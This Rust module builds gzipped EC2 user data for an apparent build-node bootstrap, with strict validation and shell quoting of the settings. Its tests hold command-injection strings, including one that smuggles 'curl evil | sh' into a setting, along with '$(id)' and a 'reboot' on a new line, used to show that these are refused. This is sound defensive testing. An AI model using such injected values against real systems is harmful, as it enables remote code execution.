//! A build node's first boot: the EC2 user data that runs
//! `data/bootstrap.sh` with the platform's settings.
//!
//! User data takes no arguments, so the settings the bootstrap reads as
//! `EBFLEET_*` variables (bootstrap/README.md, "As EC2 user data") go in
//! front of the script as `export` lines, each value validated against the
//! bootstrap's own pattern and single-quoted. The script is
//! [`BOOTSTRAP_SH`], compiled in from the same commit, so a deployed Lambda
//! starts nodes with exactly the bootstrap it was tested with. The whole is
//! gzipped (cloud-init unpacks gzip user data), which EC2 then limits to
//! [`MAX_USER_DATA_BYTES`].
//!
//! The agent `ebfleet-node` comes from the bucket: an operator uploads one
//! binary per architecture to [`node_binary_key`] with its SHA-256 as the
//! object's `sha256` metadata (`scripts/publish-node.sh`); Capacity hands
//! the node a presigned GET of it ([`NODE_URL_EXPIRY`]) and that checksum,
//! which the bootstrap verifies before installing.

use crate::arch::Arch;
use crate::platform::Platform;
use std::io::Write;
use std::time::Duration;

/// The bootstrap, byte for byte as in this commit's `crates/ebfleet-core/data/bootstrap.sh`.
pub const BOOTSTRAP_SH: &str = include_str!("../data/bootstrap.sh");

/// The EasyBuild version the nodes install: the bootstrap's default
/// (`DEFAULT_EASYBUILD_VERSION`); failure memory compares it with a failed
/// build's.
pub fn easybuild_version() -> &'static str {
    BOOTSTRAP_SH
        .lines()
        .find_map(|l| l.strip_prefix("readonly DEFAULT_EASYBUILD_VERSION="))
        .expect("bootstrap.sh sets DEFAULT_EASYBUILD_VERSION")
}

/// EC2's limit on user data: the raw bytes (here: gzipped), before the
/// base64 encoding of the API call (which may then be up to 21,848
/// characters).
pub const MAX_USER_DATA_BYTES: usize = 16 * 1024;

/// Where the `ebfleet-node` binaries live in the bucket, one per
/// architecture.
pub const NODE_BINARY_PREFIX: &str = "tools/ebfleet-node/";

/// How long a node's presigned download of `ebfleet-node` stays valid: the
/// bootstrap fetches it after the OS packages, Lmod and EasyBuild are
/// installed, which on a slow boot takes tens of minutes.
pub const NODE_URL_EXPIRY: Duration = Duration::from_secs(60 * 60);

/// The bootstrap refuses a longer node URL.
pub const MAX_NODE_URL: usize = 2048;

/// `tools/ebfleet-node/<arch>/ebfleet-node`, e.g.
/// `tools/ebfleet-node/aarch64/ebfleet-node`.
pub fn node_binary_key(arch: Arch) -> String {
    format!("{NODE_BINARY_PREFIX}{}/ebfleet-node", arch.as_str())
}

/// Where the node downloads `ebfleet-node` from, and what it must hash to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NodeDownload {
    /// A presigned S3 GET URL (https).
    pub url: String,
    /// Lowercase hex SHA-256 of the binary.
    pub sha256: String,
}

/// What the bootstrap needs to know about its node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NodeSettings {
    pub platform: String,
    pub archspec: String,
    pub optarch: String,
    /// GPU platforms that run CUDA only.
    pub cuda_compute_capabilities: Option<String>,
    pub node: NodeDownload,
}

impl NodeSettings {
    /// The settings of `platform`'s nodes, which install `node`.
    pub fn for_platform(platform: &Platform, node: NodeDownload) -> Self {
        NodeSettings {
            platform: platform.name.clone(),
            archspec: platform.cpu.archspec.clone(),
            optarch: platform.cpu.optarch.clone(),
            cuda_compute_capabilities: platform
                .gpu
                .as_ref()
                .and_then(|g| g.cuda_compute_capability.clone()),
            node,
        }
    }

    /// `(variable, value)` in the order they are written, each checked
    /// against what the bootstrap accepts (its `validate`), so a value the
    /// bootstrap would refuse fails here, before anything is launched.
    pub fn variables(&self) -> Result<Vec<(&'static str, String)>, UserDataError> {
        let mut vars = vec![
            checked(VAR_PLATFORM, &self.platform, check_platform)?,
            checked(VAR_ARCHSPEC, &self.archspec, check_archspec)?,
            checked(VAR_OPTARCH, &self.optarch, check_optarch)?,
        ];
        if let Some(cc) = &self.cuda_compute_capabilities {
            vars.push(checked(VAR_CUDA, cc, check_compute_capabilities)?);
        }
        vars.push((VAR_MAX_LIFETIME_HOURS, NODE_MAX_LIFETIME_HOURS.to_string()));
        vars.push(checked(VAR_NODE_URL, &self.node.url, check_node_url)?);
        let sha = checked(VAR_NODE_SHA256, &self.node.sha256, check_sha256)?;
        vars.push((sha.0, sha.1.to_ascii_lowercase()));
        Ok(vars)
    }
}

pub const VAR_PLATFORM: &str = "EBFLEET_PLATFORM";
pub const VAR_ARCHSPEC: &str = "EBFLEET_ARCHSPEC";
pub const VAR_OPTARCH: &str = "EBFLEET_OPTARCH";
pub const VAR_CUDA: &str = "EBFLEET_CUDA_COMPUTE_CAPABILITIES";
pub const VAR_NODE_URL: &str = "EBFLEET_NODE_URL";
pub const VAR_NODE_SHA256: &str = "EBFLEET_NODE_SHA256";
pub const VAR_MAX_LIFETIME_HOURS: &str = "EBFLEET_MAX_LIFETIME_HOURS";

/// A node powers itself off (and EC2 terminates it) this long after boot,
/// whatever else fails: the last backstop behind Release and the sweep. A
/// week: well past a platform's run with a full pool (~35 h) and the
/// longest builds (~14 h); a smaller pool's node that reaches it loses its
/// build, which the scheduler runs again on a new node.
pub const NODE_MAX_LIFETIME_HOURS: u32 = 168;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum UserDataError {
    /// A setting the bootstrap would refuse (or that could not be written
    /// safely); the value is cut to 100 characters.
    #[error("user data: {variable} {value:?}: {reason}")]
    Invalid {
        variable: &'static str,
        value: String,
        reason: String,
    },
    #[error(
        "user data: {bytes} bytes gzipped (a {script} byte script; {base64} in base64) \
         is over EC2's limit of {limit} bytes"
    )]
    TooLarge {
        bytes: usize,
        script: usize,
        base64: usize,
        limit: usize,
    },
    #[error("user data: gzip failed: {0}")]
    Gzip(String),
}

/// The user data, ready for EC2 (which wants it base64-encoded on the
/// wire; the adapter does that).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UserData {
    /// The gzipped script: what the instance reads from IMDS.
    pub gzip: Vec<u8>,
    /// The script's length before compression.
    pub script_len: usize,
}

impl UserData {
    /// Characters of the base64 text the API call carries.
    pub fn base64_len(&self) -> usize {
        base64_len(self.gzip.len())
    }
}

fn base64_len(n: usize) -> usize {
    n.div_ceil(3) * 4
}

/// `value` as one single-quoted shell word: whatever it holds, the shell
/// reads it back unchanged and expands nothing (`'` is written `'\''`).
pub fn shell_quote(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// The first-boot script: a bash shebang, the settings as `export` lines,
/// then [`BOOTSTRAP_SH`] unchanged (its own `#!` line is a comment there).
pub fn script(settings: &NodeSettings) -> Result<String, UserDataError> {
    let vars = settings.variables()?;
    let mut text = String::with_capacity(BOOTSTRAP_SH.len() + 4096);
    text.push_str("#!/bin/bash\n");
    text.push_str("# ebfleet build node, first boot: ebfleet bootstrap.sh with these settings.\n");
    for (name, value) in &vars {
        text.push_str("export ");
        text.push_str(name);
        text.push('=');
        text.push_str(&shell_quote(value));
        text.push('\n');
    }
    text.push_str(BOOTSTRAP_SH);
    if !text.ends_with('\n') {
        text.push('\n');
    }
    Ok(text)
}

/// [`script`], gzipped, within EC2's limit.
pub fn render(settings: &NodeSettings) -> Result<UserData, UserDataError> {
    let data = gzip_script(&script(settings)?)?;
    check_size(&data)?;
    Ok(data)
}

/// `text` gzipped (cloud-init unpacks it), not yet checked against EC2's
/// limit ([`check_size`]).
pub fn gzip_script(text: &str) -> Result<UserData, UserDataError> {
    Ok(UserData {
        script_len: text.len(),
        gzip: gzip(text.as_bytes())?,
    })
}

/// [`UserDataError::TooLarge`] when `data` is over EC2's limit.
pub fn check_size(data: &UserData) -> Result<(), UserDataError> {
    if data.gzip.len() > MAX_USER_DATA_BYTES {
        return Err(UserDataError::TooLarge {
            bytes: data.gzip.len(),
            script: data.script_len,
            base64: data.base64_len(),
            limit: MAX_USER_DATA_BYTES,
        });
    }
    Ok(())
}

fn gzip(bytes: &[u8]) -> Result<Vec<u8>, UserDataError> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(bytes)
        .and_then(|()| enc.finish())
        .map_err(|e| UserDataError::Gzip(e.to_string()))
}

// ------------------------------------------------------------ validation
//
// The bootstrap's own patterns (bootstrap.sh, `validate`): a value that
// passes here passes there. None allows a quote, `$`, a backtick, a
// backslash or a newline, so the quoting above is a second wall, not the
// only one.

fn checked(
    variable: &'static str,
    value: &str,
    check: fn(&str) -> Result<(), String>,
) -> Result<(&'static str, String), UserDataError> {
    match check(value) {
        Ok(()) => Ok((variable, value.to_string())),
        Err(reason) => Err(UserDataError::Invalid {
            variable,
            value: value.chars().take(100).collect(),
            reason,
        }),
    }
}

fn only(value: &str, allowed: impl Fn(u8) -> bool, what: &str) -> Result<(), String> {
    match value.bytes().find(|&b| !allowed(b)) {
        Some(b) if b.is_ascii_graphic() || b == b' ' => {
            Err(format!("'{}' is not allowed (only {what})", b as char))
        }
        Some(b) => Err(format!("byte 0x{b:02x} is not allowed (only {what})")),
        None => Ok(()),
    }
}

fn alnum_first(value: &str) -> Result<(), String> {
    match value.bytes().next() {
        None => Err("empty".into()),
        Some(b) if !b.is_ascii_alphanumeric() => Err("must start with a letter or digit".into()),
        Some(_) => Ok(()),
    }
}

/// `<os>_<cpu>[_<gpu>]`, each part `[a-z0-9][a-z0-9.-]*`, at most 128 bytes.
fn check_platform(v: &str) -> Result<(), String> {
    if v.len() > 128 {
        return Err("longer than 128 bytes".into());
    }
    let parts: Vec<&str> = v.split('_').collect();
    if !(2..=3).contains(&parts.len()) {
        return Err("expected <os>_<cpu>[_<gpu>]".into());
    }
    for p in parts {
        if !p.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit()) {
            return Err("each part starts with a-z or 0-9".into());
        }
        only(
            p,
            |b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'-',
            "a-z 0-9 . - and _ between parts",
        )?;
    }
    Ok(())
}

fn check_archspec(v: &str) -> Result<(), String> {
    alnum_first(v)?;
    if v.len() > 64 {
        return Err("longer than 64 bytes".into());
    }
    only(
        v,
        |b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'),
        "A-Z a-z 0-9 _ . -",
    )
}

fn check_optarch(v: &str) -> Result<(), String> {
    alnum_first(v)?;
    if v.len() > 256 {
        return Err("longer than 256 bytes".into());
    }
    if v.ends_with(' ') {
        return Err("ends with a space".into());
    }
    only(
        v,
        |b| b.is_ascii_alphanumeric() || b":=,;._+- ".contains(&b),
        "A-Z a-z 0-9 : = , ; . _ + - and inner spaces",
    )
}

/// `9.0` or `8.0,9.0`.
fn check_compute_capabilities(v: &str) -> Result<(), String> {
    let one = |cc: &str| {
        let mut it = cc.split('.');
        let num = |p: Option<&str>| {
            p.is_some_and(|p| (1..=3).contains(&p.len()) && p.bytes().all(|b| b.is_ascii_digit()))
        };
        num(it.next()) && num(it.next()) && it.next().is_none()
    };
    if v.split(',').all(one) {
        Ok(())
    } else {
        Err("expected e.g. 9.0 or 8.0,9.0".into())
    }
}

/// Characters the bootstrap accepts in a URL.
fn url_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"._~:/?#@!&*+,;=%-".contains(&b)
}

/// An `https://` URL of the bootstrap's characters, at most
/// [`MAX_NODE_URL`] bytes. `http://` only to a loopback address: a local
/// S3 emulator presigns such URLs, which no instance could reach anyway.
fn check_node_url(v: &str) -> Result<(), String> {
    if v.len() > MAX_NODE_URL {
        return Err(format!(
            "{} bytes, longer than the bootstrap's {MAX_NODE_URL}",
            v.len()
        ));
    }
    let rest = if let Some(rest) = v.strip_prefix("https://") {
        rest
    } else if let Some(rest) = v.strip_prefix("http://") {
        let host = rest.split(['/', '?', '#']).next().unwrap_or("");
        let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
        if !matches!(host, "127.0.0.1" | "localhost") {
            return Err("expected an https:// URL".into());
        }
        rest
    } else {
        return Err("expected an https:// URL".into());
    };
    if rest.is_empty() {
        return Err("no host".into());
    }
    only(
        rest,
        url_byte,
        "A-Z a-z 0-9 and . _ ~ : / ? # @ ! & * + , ; = % -",
    )
}

fn check_sha256(v: &str) -> Result<(), String> {
    // The bootstrap compares it case-insensitively.
    if crate::checksum::is_sha256_hex(&v.to_ascii_lowercase()) {
        Ok(())
    } else {
        Err("expected 64 hex digits".into())
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_easybuild_version_is_the_bootstraps() {
        let v = super::easybuild_version();
        assert!(
            v.split('.').count() == 3 && v.split('.').all(|p| p.parse::<u32>().is_ok()),
            "{v}"
        );
        assert!(super::BOOTSTRAP_SH.contains(&format!("(default {v})")));
    }

    use super::*;
    use crate::platform::Platforms;
    use std::io::Read;
    use std::process::Command;

    const SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    fn platform(name: &str) -> Platform {
        Platforms::default_set()
            .unwrap()
            .platforms
            .into_iter()
            .find(|p| p.name == name)
            .unwrap_or_else(|| panic!("{name} is shipped"))
    }

    /// What S3 presigns with a Lambda's session credentials: the session
    /// token makes it long.
    fn presigned(key: &str, token_len: usize) -> String {
        // Not random, but not repetitive either: a poor case for gzip.
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789%";
        let token: String = (0..token_len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                alphabet[(x % alphabet.len() as u64) as usize] as char
            })
            .collect();
        format!(
            "https://ebfleet-bucket.s3.us-east-1.amazonaws.com/{key}?x-id=GetObject\
             &X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE%2F20261124%2Fus-east-1%2Fs3%2Faws4_request\
             &X-Amz-Date=20261124T030000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host\
             &X-Amz-Signature={}&X-Amz-Security-Token={token}",
            "0123456789abcdef".repeat(4)
        )
    }

    fn settings(name: &str) -> NodeSettings {
        let p = platform(name);
        NodeSettings::for_platform(
            &p,
            NodeDownload {
                url: presigned(&node_binary_key(p.arch()), 1200),
                sha256: SHA.into(),
            },
        )
    }

    fn gunzip(bytes: &[u8]) -> String {
        let mut out = String::new();
        flate2::read::GzDecoder::new(bytes)
            .read_to_string(&mut out)
            .unwrap();
        out
    }

    fn bash(args: &[&str]) -> std::process::Output {
        Command::new("bash").args(args).output().expect("bash runs")
    }

    #[test]
    fn node_binary_keys_per_arch() {
        assert_eq!(
            node_binary_key(Arch::Aarch64),
            "tools/ebfleet-node/aarch64/ebfleet-node"
        );
        assert_eq!(
            node_binary_key(Arch::X86_64),
            "tools/ebfleet-node/x86_64/ebfleet-node"
        );
    }

    #[test]
    fn the_script_is_the_settings_then_the_bootstrap() {
        let s = settings("amzn-2023_graviton-3");
        let text = script(&s).unwrap();
        assert!(text.starts_with("#!/bin/bash\n"));
        assert!(text.ends_with(BOOTSTRAP_SH));
        assert!(
            BOOTSTRAP_SH.contains("EBFLEET_NODE_URL"),
            "the real bootstrap"
        );
        let head = &text[..text.len() - BOOTSTRAP_SH.len()];
        let exports: Vec<&str> = head.lines().filter(|l| l.starts_with("export ")).collect();
        assert_eq!(
            exports[..3],
            [
                "export EBFLEET_PLATFORM='amzn-2023_graviton-3'",
                "export EBFLEET_ARCHSPEC='neoverse_v1'",
                "export EBFLEET_OPTARCH='GCC:mcpu=neoverse-v1'",
            ]
        );
        assert_eq!(exports[3], "export EBFLEET_MAX_LIFETIME_HOURS='168'");
        assert_eq!(
            exports[4],
            format!("export EBFLEET_NODE_URL='{}'", s.node.url)
        );
        assert_eq!(exports[5], format!("export EBFLEET_NODE_SHA256='{SHA}'"));
        assert_eq!(exports.len(), 6, "no CUDA on a CPU platform: {exports:?}");
        assert!(!head.contains(VAR_CUDA));
    }

    #[test]
    fn a_cuda_platform_sets_its_compute_capability() {
        let s = settings("amzn-2023_epyc-gen-3_h100");
        assert_eq!(s.cuda_compute_capabilities.as_deref(), Some("9.0"));
        let text = script(&s).unwrap();
        assert!(text.contains("\nexport EBFLEET_CUDA_COMPUTE_CAPABILITIES='9.0'\n"));
        assert!(text.contains("\nexport EBFLEET_OPTARCH='GCC:march=znver3'\n"));
    }

    #[test]
    fn the_script_passes_bash_n_and_exports_exactly_the_values() {
        let s = settings("amzn-2023_epyc-gen-3_h100");
        let text = script(&s).unwrap();
        let out = bash(&["-n", "-c", &text]);
        assert!(
            out.status.success(),
            "bash -n: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        // The settings as bash reads them back, without running the bootstrap.
        let head = &text[..text.len() - BOOTSTRAP_SH.len()];
        let printed = bash(&[
            "-c",
            &format!("{head}\nprintf '%s\\n' \"$EBFLEET_PLATFORM\" \"$EBFLEET_OPTARCH\" \"$EBFLEET_NODE_URL\" \"$EBFLEET_NODE_SHA256\" \"$EBFLEET_CUDA_COMPUTE_CAPABILITIES\""),
        ]);
        assert!(printed.status.success());
        assert_eq!(
            String::from_utf8(printed.stdout).unwrap(),
            format!(
                "amzn-2023_epyc-gen-3_h100\nGCC:march=znver3\n{}\n{SHA}\n9.0\n",
                s.node.url
            )
        );
    }

    #[test]
    fn quoting_keeps_hostile_values_one_inert_word() {
        let dir = std::env::temp_dir().join(format!("ebfleet-quote-{}", std::process::id()));
        let marker = dir.join("pwned");
        let _ = std::fs::create_dir_all(&dir);
        let hostile = [
            format!("x'; touch {} #", marker.display()),
            format!("$(touch {})", marker.display()),
            format!("`touch {}`", marker.display()),
            "a\nb'\\'c\"$HOME\"".to_string(),
            "'".repeat(5),
            String::new(),
        ];
        for v in &hostile {
            let out = bash(&["-c", &format!("v={}; printf '%s' \"$v\"", shell_quote(v))]);
            assert!(out.status.success(), "{v:?}");
            assert_eq!(String::from_utf8(out.stdout).unwrap(), *v);
        }
        assert!(!marker.exists(), "a quoted value ran a command");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn hostile_settings_are_refused_naming_the_variable() {
        let base = settings("amzn-2023_graviton-3");
        let cases: Vec<(&str, NodeSettings)> = vec![
            (
                VAR_OPTARCH,
                NodeSettings {
                    optarch: "GCC:mcpu=native'; curl evil | sh; '".into(),
                    ..base.clone()
                },
            ),
            (
                VAR_OPTARCH,
                NodeSettings {
                    optarch: "GCC:mcpu=native ".into(),
                    ..base.clone()
                },
            ),
            (
                VAR_ARCHSPEC,
                NodeSettings {
                    archspec: "zen4\nreboot".into(),
                    ..base.clone()
                },
            ),
            (
                VAR_PLATFORM,
                NodeSettings {
                    platform: "amzn-2023_$(id)".into(),
                    ..base.clone()
                },
            ),
            (
                VAR_CUDA,
                NodeSettings {
                    cuda_compute_capabilities: Some("9.0;id".into()),
                    ..base.clone()
                },
            ),
            (
                VAR_NODE_URL,
                NodeSettings {
                    node: NodeDownload {
                        url: "https://example.com/x'$(id)'".into(),
                        sha256: SHA.into(),
                    },
                    ..base.clone()
                },
            ),
            (
                VAR_NODE_URL,
                NodeSettings {
                    node: NodeDownload {
                        url: "http://example.com/ebfleet-node".into(),
                        sha256: SHA.into(),
                    },
                    ..base.clone()
                },
            ),
            (
                VAR_NODE_URL,
                NodeSettings {
                    node: NodeDownload {
                        url: format!("https://example.com/{}", "a".repeat(MAX_NODE_URL)),
                        sha256: SHA.into(),
                    },
                    ..base.clone()
                },
            ),
            (
                VAR_NODE_SHA256,
                NodeSettings {
                    node: NodeDownload {
                        url: base.node.url.clone(),
                        sha256: "abc".into(),
                    },
                    ..base.clone()
                },
            ),
        ];
        for (variable, s) in cases {
            let err = render(&s).unwrap_err();
            assert!(
                matches!(&err, UserDataError::Invalid { variable: v, .. } if *v == variable),
                "{variable}: {err:?}"
            );
            assert!(err.to_string().contains(variable), "{err}");
        }
    }

    #[test]
    fn local_emulator_urls_and_uppercase_checksums() {
        let mut s = settings("amzn-2023_graviton-3");
        s.node.url = "http://127.0.0.1:5000/ebfleet/tools/ebfleet-node/aarch64/ebfleet-node?X-Amz-Signature=ab".into();
        s.node.sha256 = SHA.to_ascii_uppercase();
        let text = script(&s).unwrap();
        assert!(text.contains(&format!("export EBFLEET_NODE_SHA256='{SHA}'\n")));
        s.node.url = "http://127.0.0.1.evil.example/x".into();
        assert!(script(&s).is_err());
    }

    #[test]
    fn rendered_user_data_is_gzip_of_the_script_within_the_limit() {
        let s = settings("amzn-2023_graviton-3");
        let data = render(&s).unwrap();
        assert_eq!(
            &data.gzip[..2],
            &[0x1f, 0x8b],
            "gzip magic: cloud-init unpacks it"
        );
        let text = gunzip(&data.gzip);
        assert_eq!(text, script(&s).unwrap());
        assert_eq!(data.script_len, text.len());
        assert!(data.gzip.len() <= MAX_USER_DATA_BYTES);
        assert_eq!(data.base64_len(), data.gzip.len().div_ceil(3) * 4);
    }

    #[test]
    fn the_longest_url_the_bootstrap_takes_still_fits() {
        // A 2048-byte URL of poorly compressible characters, on the GPU
        // platform with the most settings: the headroom EC2's limit leaves.
        let mut s = settings("amzn-2023_epyc-gen-3_h100");
        let url = presigned(&node_binary_key(Arch::X86_64), 4000);
        s.node.url = url[..MAX_NODE_URL].to_string();
        let data = render(&s).unwrap();
        assert!(
            data.gzip.len() < MAX_USER_DATA_BYTES - 1024,
            "{} bytes gzipped: less than 1 KiB under EC2's limit",
            data.gzip.len()
        );
    }

    #[test]
    fn too_large_user_data_says_by_how_much() {
        let big = UserData {
            gzip: vec![0; MAX_USER_DATA_BYTES + 1],
            script_len: 99_999,
        };
        let err = check_size(&big).unwrap_err();
        assert_eq!(
            err.to_string(),
            "user data: 16385 bytes gzipped (a 99999 byte script; 21848 in base64) is over EC2's limit of 16384 bytes"
        );
        let fits = UserData {
            gzip: vec![0; MAX_USER_DATA_BYTES],
            script_len: 1,
        };
        check_size(&fits).unwrap();
    }
}
